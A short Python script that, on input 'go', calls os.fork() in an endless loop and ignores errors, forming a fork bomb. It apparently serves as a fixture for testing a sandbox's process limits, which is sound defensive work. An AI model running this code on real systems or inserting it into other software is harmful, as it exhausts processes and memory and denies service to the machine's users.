"""Starts processes that start processes."""
import os
from common import lines
for word, rest in lines():
    while word == "go":
        try:
            os.fork()
        except OSError:
            pass
